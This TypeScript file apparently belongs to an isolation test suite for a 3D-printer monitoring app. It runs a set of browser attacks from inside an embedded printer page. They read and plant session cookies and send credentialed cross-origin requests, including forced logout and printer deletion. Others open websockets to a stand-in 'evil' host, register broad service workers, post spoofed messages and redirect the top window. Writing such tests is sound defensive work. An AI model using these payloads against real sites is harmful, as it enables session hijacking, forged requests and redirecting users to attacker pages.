/** Attacks as a printer's page runs them. Each stands alone: its source is put into the page. */
import type { Aim } from './hostile.ts'

/** Everything that a script reads of cookies, and how it came here. */
export async function readCookies() {
  const store = 'cookieStore' in window ? await window.cookieStore.getAll() : []
  const [entry] = performance.getEntriesByType('navigation')
  return JSON.stringify([document.cookie, store, document.referrer, entry?.name, location.href, name])
}

/** Puts cookies by our names into whatever jar takes them, and enough rubbish beside them. */
export function plantCookies({ app }: Aim) {
  const { hostname } = new URL(app)
  const names = [
    'tsd_sessionid',
    '__Host-tsd_sessionid',
    'tsd_browser',
    'known_browser',
    'csrftoken',
    'sessionid',
  ]
  const places = ['', '; Path=/', '; Path=/api/', `; Domain=${hostname}; Path=/`, `; Domain=.${hostname}`]
  for (const one of names) for (const place of places) document.cookie = `${one}=planted${place}`
  return document.cookie.split('planted').length - 1
}

/** Asks the app with its owner's cookies, in each way that a page has. */
export async function askTheApp({ app, printerId }: Aim) {
  const urls = ['/api/v1/users/me/', `/api/v1/printers/${printerId}/`, '/', '/static/', '/assets/']
  const read = async (url: string, init: RequestInit) => {
    try {
      const answer = await fetch(app + url, { credentials: 'include', ...init })
      return answer.type === 'opaque' ? '' : await answer.text()
    } catch {
      return ''
    }
  }
  const got = await Promise.all(urls.map((url) => read(url, {})))
  await Promise.all(urls.map((url) => read(url, { mode: 'no-cors' })))
  // What may be sent without asking first.
  const send = { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' } } as const
  await read('/api/v1/printers/', { ...send, body: '{"name":"planted"}' })
  await read('/api/v1/auth/logout/', send)
  await read(`/api/v1/printers/${printerId}/`, { method: 'DELETE', body: '' })
  navigator.sendBeacon(`${app}/api/v1/auth/logout/`, '{}')
  const loaded = await Promise.all(
    ['script', 'img', 'link'].map(
      (tag) =>
        new Promise<string>((resolve) => {
          const element = Object.assign(document.createElement(tag), { rel: 'stylesheet' })
          element.onload = () => resolve(`${tag} loaded`)
          element.onerror = () => resolve('')
          element.setAttribute(tag === 'link' ? 'href' : 'src', `${app}/api/v1/users/me/`)
          document.body.append(element)
        }),
    ),
  )
  return [...got, ...loaded].filter((one) => one !== '')
}

/** Opens the app's websockets. */
export async function dialTheApp({ app, printerId }: Aim) {
  const dial = (path: string) =>
    new Promise<string>((resolve) => {
      const socket = new WebSocket(app.replace('http', 'ws') + path)
      socket.addEventListener('open', () => resolve(`${path} opened`))
      socket.addEventListener('message', ({ data }) => resolve(`${path} said ${String(data)}`))
      socket.addEventListener('error', () => resolve(''))
    })
  const paths = [`/ws/web/${printerId}/`, '/ws/web/all/', `/ws/janus/${printerId}/`, '/ws/dev/']
  return (await Promise.all(paths.map(dial))).filter((one) => one !== '')
}

/** Dials others through its own origin. */
export async function dialOthers({ evil }: Aim) {
  const { host } = new URL(evil)
  const dial = (path: string) =>
    new Promise<string>((resolve) => {
      const socket = new WebSocket(`ws://${location.host}${path}`)
      socket.addEventListener('message', ({ data }) => resolve(`${path} said ${String(data)}`))
      socket.addEventListener('close', () => resolve(''))
    })
  const paths = [`//${host}/websocket`, `/sockjs/../..//${host}/websocket`, `/http://${host}/websocket`]
  return (await Promise.all(paths.map(dial))).filter((one) => one !== '')
}

/** Registers service workers, as wide as it can. */
export async function registerWorkers({ app }: Aim) {
  const register = async (url: string, scope: string) => {
    try {
      return (await navigator.serviceWorker.register(url, { scope })).scope
    } catch {
      return ''
    }
  }
  const tries = [
    ['/worker.js', '/'],
    ['/deep/worker.js', '/'],
    ['/worker.js', `${app}/`],
    [`${app}/sw.js`, `${app}/`],
    ['/_tsd_/worker.js', '/'],
  ] as const
  return (await Promise.all(tries.map(([url, scope]) => register(url, scope)))).filter((one) => one !== '')
}

/** Reaches for the windows around it by every name that they have, talks to them, and listens what they say to anybody. */
export async function reachAround({ app }: Aim) {
  const got: string[] = []
  const reach = (what: () => unknown) => {
    try {
      got.push(String(what()))
    } catch {
      // Refused, as it should be.
    }
  }
  const { top: outer } = window
  reach(() => outer?.document.cookie)
  reach(() => outer?.location.href)
  reach(() => outer?.localStorage.length)
  reach(() => outer?.history.length)
  reach(() => (outer as unknown as { eval: (text: string) => unknown }).eval('1'))
  if (frameElement !== null) got.push('the frame around it')
  reach(() => Object.assign(document, { domain: location.hostname.split('.').at(-1) }).domain)
  addEventListener('message', ({ data, origin }) => {
    if (origin !== location.origin) got.push(JSON.stringify(data))
  })
  const words = ['close', '{}', { type: 'navigate', url: '//evil' }, { token: 'x', code: '123456' }, null]
  for (const word of words)
    for (const to of [parent, outer, opener as Window | null]) {
      to?.postMessage(word, '*')
      to?.postMessage(word, app)
    }
  // Real time: of an answer that nobody gives there is no word.
  await new Promise((resolve) => setTimeout(resolve, 300))
  return got
}

/** Leads the window around it away, in every way that there is. The test clicks: then a browser would allow it. */
export async function leadAway({ evil }: Aim) {
  const lead = (what: () => void) => {
    try {
      what()
    } catch {
      // Refused, as it should be.
    }
  }
  await new Promise((resolve) => {
    document.documentElement.addEventListener('click', resolve, { once: true })
  })
  lead(() => top?.location.replace(`${evil}/top`))
  lead(() => void window.open(`${evil}/open`, '_top'))
  lead(() => Object.assign(document.createElement('a'), { href: `${evil}/link`, target: '_top' }).click())
  const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, target: '_top' })
  document.body.append(form)
  lead(() => form.submit())
  lead(() => top?.close())
  lead(() => history.go(-1))
  // Real time: a page that is not led away says nothing of it.
  await new Promise((resolve) => setTimeout(resolve, 500))
  return 'clicked'
}

/** Opens the app in a window of its own at the first click, and reaches into it at the second. */
export async function openTheApp({ app }: Aim) {
  const click = () =>
    new Promise((resolve) => {
      document.documentElement.addEventListener('click', resolve, { once: true })
    })
  await click()
  const opened = window.open(`${app}/printers/`, 'theirs')
  await click()
  const reach = (what: () => unknown) => {
    try {
      return String(what())
    } catch {
      return ''
    }
  }
  const got = [
    reach(() => opened?.document.body.innerText),
    reach(() => opened?.location.href),
    reach(() => opened?.localStorage.length),
    reach(() => opened?.history.length),
  ]
  return { wasOpened: opened !== null, got: got.filter((one) => one !== '') }
}
